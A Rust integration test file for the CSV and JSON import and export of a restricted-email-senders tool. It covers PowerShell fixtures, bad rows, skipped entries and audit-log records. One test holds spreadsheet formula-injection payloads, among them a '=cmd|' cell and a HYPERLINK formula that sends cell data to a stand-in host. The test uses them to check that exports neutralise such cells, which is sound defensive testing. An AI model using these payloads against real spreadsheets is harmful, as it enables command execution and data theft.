//! `import` and `export` on what PowerShell really writes.

use crate::harness::{Database, Portal, eventually};
use crate::program::{Serve, command, open, result_of, run};
use reqwest::Method;
use restricted_users::model::operator::RoleGroup;
use serde_json::json;
use std::path::Path;

const EXPORT_CSV: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/blocked-senders.csv");

fn written(database: &Database, text: &str) -> String {
    let file = database.folder.path().join("export.csv");
    std::fs::write(&file, text).unwrap();
    file.to_str().unwrap().to_owned()
}

#[tokio::test]
async fn every_file_that_powershell_writes_is_taken_and_a_second_time_changes_nothing() {
    let fixtures = Path::new(EXPORT_CSV).parent().unwrap();
    let mut files = 0;
    for file in std::fs::read_dir(fixtures).unwrap() {
        let file = file.unwrap().path();
        if file.is_dir() {
            continue;
        }
        let file = file.to_str().unwrap();
        let database = Database::create().await;
        let first = result_of(&database, &["import", file]);
        let (imported, rest) = first.split_once(' ').unwrap();
        let imported: usize = imported.parse().unwrap();
        assert!(imported > 0, "{file}: {first}");
        assert_eq!(rest, "imported, 0 skipped, 0 bad\n", "{file}");
        let exported = result_of(&database, &["export", "--format", "json"]);
        let again = result_of(&database, &["import", file]);
        assert_eq!(again, format!("0 imported, {imported} skipped, 0 bad\n"), "{file}");
        assert_eq!(result_of(&database, &["export", "--format", "json"]), exported, "{file}");
        files += 1;
    }
    assert!(files >= 5);
}

#[tokio::test]
async fn what_is_exported_is_imported_elsewhere_as_it_was() {
    for format in ["csv", "json"] {
        let (from, to) = (Database::create().await, Database::create().await);
        result_of(&from, &["import", EXPORT_CSV]);
        let exported = result_of(&from, &["export", "--format", format]);
        let file = written(&to, &exported);
        assert_eq!(result_of(&to, &["import", &file]), "2 imported, 0 skipped, 0 bad\n");
        assert_eq!(result_of(&to, &["export", "--format", format]), exported);
    }
}

#[tokio::test]
async fn no_spreadsheet_runs_a_cell_of_an_export_and_an_import_takes_each_as_it_was() {
    const CELLS: [(&str, &str); 5] = [
        ("=cmd|/c@example.org", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        ("-bob@example.org", "+1"),
        ("carol@example.org", "@SUM(1)"),
        ("'dave@example.org", "'=already an apostrophe"),
        ("eve@example.org", "\t=1"),
    ];
    let portal = Portal::start().await;
    for (address, reason) in CELLS {
        let body = json!({ "address": address, "reason": reason });
        assert_eq!(portal.post("/api/v1/restricted-users", body).await.status, 201, "{address}");
    }
    let session = portal.session(RoleGroup::GlobalReader).await;
    let export = portal.request(Method::GET, "/ui/restrictedusers/export");
    let exported = portal.send(export.header("cookie", session)).await.text;
    assert_eq!(result_of(&portal.database, &["export"]), exported);
    for line in exported.lines().skip(1) {
        let reason = line.split("\",\"").nth(1).unwrap();
        assert!(!line[1..].starts_with(['=', '-']) && reason.starts_with('\''), "{line}");
    }

    let elsewhere = Database::create().await;
    let file = written(&elsewhere, &exported);
    assert_eq!(result_of(&elsewhere, &["import", &file]), "5 imported, 0 skipped, 0 bad\n");
    let json = result_of(&elsewhere, &["export", "--format", "json"]);
    let senders: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    for (address, reason) in CELLS {
        let is_it = |sender: &&serde_json::Value| sender["SenderAddress"] == address;
        let sender = senders.iter().find(is_it).expect(address);
        assert_eq!(sender["Reason"], reason, "{address}");
    }
}

#[tokio::test]
async fn a_bad_row_is_told_with_its_line_and_the_good_ones_go_in() {
    let database = Database::create().await;
    let file = written(
        &database,
        "SenderAddress,CreatedDatetime\nalice@example.org,11/20/2025 9:14:03 AM\n\
         @nowhere,\nbob@example.org,the day before\ncarol@example.org,\n",
    );
    let output = run(&database, &["import", &file]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(String::from_utf8_lossy(&output.stdout), "2 imported, 0 skipped, 2 bad\n");
    let errors = String::from_utf8_lossy(&output.stderr);
    let lines: Vec<_> = errors.lines().collect();
    assert!(lines[0].starts_with("line 3: ") && lines[0].contains("SenderAddress"), "{errors}");
    assert!(lines[1].starts_with("line 4: ") && lines[1].contains("CreatedDatetime"), "{errors}");
    assert_eq!(lines.len(), 2, "{errors}");
}

#[tokio::test]
async fn who_is_restricted_and_a_day_block_that_is_over_are_skipped() {
    let database = Database::create().await;
    let header = "SenderAddress,Reason,CreatedDatetime,TemporaryBlock\n";
    let file = written(&database, &format!("{header}alice@example.org,x,,False\n"));
    result_of(&database, &["import", &file]);
    let file = written(
        &database,
        &format!(
            "{header}alice@example.org,y,2025-11-20T09:14:03Z,False\n\
             bob@example.org,EmailSendingLimitExceeded,2025-11-20T09:14:03Z,True\n\
             bob@example.org,y,2025-11-20T09:14:03Z,False\nBOB@example.org,z,,False\n"
        ),
    );
    assert_eq!(result_of(&database, &["import", &file]), "1 imported, 3 skipped, 0 bad\n");
}

#[tokio::test]
async fn an_entry_imported_before_is_skipped_whatever_became_of_it() {
    for undated in [false, true] {
        let database = Database::create().await;
        let serve = Serve::start(&database, "0s");
        let create = ["token", "create", "--name", "t", "--role", "security-administrator"];
        let token = result_of(&database, &create);
        let file = written(&database, "SenderAddress\nalice@example.org\n");
        let file = if undated { &file } else { EXPORT_CSV };
        result_of(&database, &["import", file]);
        let url = format!("{}/api/v1/restricted-users/alice@example.org/unblock", serve.url);
        let unblock = reqwest::Client::new().post(url).bearer_auth(token.trim());
        assert_eq!(unblock.send().await.unwrap().status(), 202);
        let again = result_of(&database, &["import", file]);
        assert!(again.starts_with("0 imported"), "{file}: {again}");
    }
}

#[tokio::test]
async fn an_import_comes_from_stdin_too_and_the_audit_log_tells_its_beginning_and_its_end() {
    let database = Database::create().await;
    let file = std::fs::File::open(EXPORT_CSV).unwrap();
    let output = command(&database, &["import", "-"]).stdin(file).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout), "2 imported, 0 skipped, 0 bad\n");
    let records = crate::audit_chain::checked(&open(&database).await).await;
    let told: Vec<_> = records.iter().map(|record| (&record["action"], &record["after"])).collect();
    let ended = json!({ "file": "-", "imported": 2, "skipped": 0, "bad": 0 });
    assert_eq!(
        told,
        [
            (&json!("ImportBegan"), &json!({ "file": "-" })),
            (&json!("RestrictionsImported"), &ended)
        ]
    );
}

#[tokio::test]
async fn an_import_that_is_killed_half_way_is_in_the_audit_log() {
    const ROWS: usize = 20_000;
    let database = Database::create().await;
    let rows: Vec<_> = (0..ROWS).map(|number| format!("user{number}@example.org")).collect();
    let file = written(&database, &format!("SenderAddress\n{}", rows.join("\n")));
    let store = open(&database).await;
    let mut import = command(&database, &["import", &file]).spawn().unwrap();
    let restricted = async || store.active_restrictions().await.unwrap().len();
    eventually("the first are restricted", async || restricted().await > 0).await;
    import.kill().unwrap();
    import.wait().unwrap();

    assert!(restricted().await < ROWS);
    let records = crate::audit_chain::checked(&store).await;
    let actions: Vec<_> = records.iter().map(|record| &record["action"]).collect();
    assert_eq!(actions, ["ImportBegan"]);
}

#[tokio::test]
async fn a_file_that_is_not_there_is_told() {
    let database = Database::create().await;
    let output = run(&database, &["import", "/nowhere.csv"]);
    assert_eq!(output.status.code(), Some(1));
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(error.contains("cannot read /nowhere.csv"), "{error}");
}
